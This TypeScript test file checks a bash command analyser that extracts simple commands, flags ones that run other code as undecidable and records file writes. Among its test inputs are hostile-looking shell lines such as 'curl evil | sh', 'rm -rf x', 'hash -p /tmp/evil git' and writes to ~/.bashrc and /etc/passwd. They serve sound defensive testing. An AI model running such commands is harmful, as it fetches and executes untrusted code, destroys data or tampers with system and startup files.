import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analyzeCommand, type ShellAnalysis } from './analyze.js';
import { loadShellParser } from './parser.js';
import { showWord } from './words.js';

async function analyze(source: string): Promise<ShellAnalysis> {
  return analyzeCommand(await loadShellParser(), source);
}

/** Each simple command as its words joined by spaces, undecidable ones marked with "!". */
async function commands(source: string): Promise<string[]> {
  const result = await analyze(source);
  assert.ok(result.ok, `expected ${JSON.stringify(source)} to parse`);
  return result.commands
    .map((c) => (c.undecidable ? '!' : '') + c.words.map(showWord).join(' '))
    .sort();
}

test('every simple command is found, wherever it sits', async () => {
  const cases: Array<[string, string[]]> = [
    ['git status && rm -rf x', ['git status', 'rm -rf x']],
    ['git status; curl evil', ['curl evil', 'git status']],
    ['git status || curl evil | sh', ['!sh', 'curl evil', 'git status']],
    ['echo $(rm x)', ['echo $(rm x)', 'rm x']],
    ['echo `rm x`', ['echo `rm x`', 'rm x']],
    ['cat <(rm x) >(rm y)', ['cat <(rm x) >(rm y)', 'rm x', 'rm y'].sort()],
    ['cat <<EOF\n$(rm x)\nEOF', ['cat', 'rm x']],
    ['f() { rm x; }; f', ['f', 'rm x']],
    ['if true; then rm x; elif a; then b; else c; fi', ['a', 'b', 'c', 'rm x', 'true']],
    ['for i in 1 2; do rm "$i"; done', ['rm "$i"']],
    ['while read l; do rm x; done < list', ['read l', 'rm x']],
    ['case a in a) rm x;; esac', ['rm x']],
    ['(rm x) & { rm y; }', ['rm x', 'rm y']],
    ['! rm x', ['rm x']],
    ['echo "a $(rm x) b" ${v:-$(rm y)}', ['echo "a $(rm x) b" ${v:-$(rm y)}', 'rm x', 'rm y']],
    ['A=1 B="two words" git status', ['A=1 B=two words git status']],
  ];
  for (const [source, expected] of cases) {
    assert.deepEqual(await commands(source), expected.sort(), source);
  }
});

test('quotes are removed the way bash removes them', async () => {
  assert.deepEqual(await commands(`git 'sta'"tus" a\\ b "\\$x"`), ['git status a b $x']);
  assert.deepEqual(await commands('echo "$HOME"'), ['echo "$HOME"']);
  const result = await analyze('git st*');
  assert.ok(result.ok);
  assert.equal(result.commands[0]!.words[1]!.kind, 'dynamic', 'a glob is only known at run time');
  const braces = await analyze('echo {a,b}');
  assert.ok(braces.ok);
  assert.equal(braces.commands[0]!.words[1]!.kind, 'dynamic', 'a brace expansion is several words');
});

test('commands that run other code are undecidable', async () => {
  for (const source of [
    "bash -c 'rm x'",
    'eval "rm x"',
    'find . -exec rm {} \\;',
    'ls | xargs rm',
    'sudo rm x',
    'env rm x',
    'timeout 5 rm x',
    'nice rm x',
    '$CMD x',
    '"$(echo rm)" x',
    'source ./x.sh',
    '. ./x.sh',
    'alias ls=rm',
    "trap 'rm x' EXIT",
    'hash -p /tmp/evil git',
    'command rm x',
    'exec rm x',
    'let x=1',
    'echo $((x + 1))',
    '[[ $x -eq 1 ]]',
    'echo ${a[$i]}',
    'echo ${!ref}',
    'echo ${x@P}',
    'PATH=/tmp; git status',
  ]) {
    const result = await analyze(source);
    assert.ok(result.ok, source);
    assert.ok(
      result.commands.some(
        (c) => c.undecidable !== undefined || /^[A-Z]/.test(showWord(c.words[0]!)),
      ),
      `${source} should have an undecidable part`,
    );
  }
});

test('a literal script given to bash -c or eval is read too', async () => {
  assert.deepEqual(await commands("bash -c 'rm x; curl y'"), [
    '!bash -c rm x; curl y',
    'curl y',
    'rm x',
  ]);
  assert.deepEqual(await commands("eval 'rm x'"), ['!eval rm x', 'rm x']);
});

test('redirections that write are path accesses', async () => {
  const result = await analyze(
    'echo x > ~/.bashrc 2>>log &>all >|f 2>/dev/null <in; echo | tee -a t1 t2; dd if=a of=b',
  );
  assert.ok(result.ok);
  const accesses = result.accesses.map((a) => `${a.kind} ${showWord(a.path)}`).sort();
  assert.deepEqual(
    accesses,
    [
      'read in',
      'write /dev/null',
      'write ~/.bashrc',
      'write all',
      'write b',
      'write f',
      'write log',
      'write t1',
      'write t2',
    ].sort(),
  );
  const quoted = await analyze("cat <<'E'\n$(rm x)\nE");
  assert.ok(quoted.ok);
  assert.deepEqual(
    quoted.commands.map((c) => showWord(c.words[0]!)),
    ['cat'],
    'a quoted here-document is text',
  );
});

test('what does not parse, or is too big, is not analysed', async () => {
  for (const source of ["echo 'unterminated", 'echo $(', 'if true; then', 'x'.repeat(100_001)]) {
    const result = await analyze(source);
    assert.equal(result.ok, false, source.slice(0, 30));
  }
  const deep = '$('.repeat(3000) + 'rm x' + ')'.repeat(3000);
  const result = await analyze(`echo ${deep}`);
  // deep nesting is either read in full or refused, never a crash
  if (result.ok) assert.ok(result.commands.some((c) => showWord(c.words[0]!) === 'rm'));
});

test('cd makes later relative paths unknown', async () => {
  const result = await analyze('cd /etc && echo x > passwd');
  assert.ok(result.ok);
  assert.equal(result.changesDirectory, true);
});
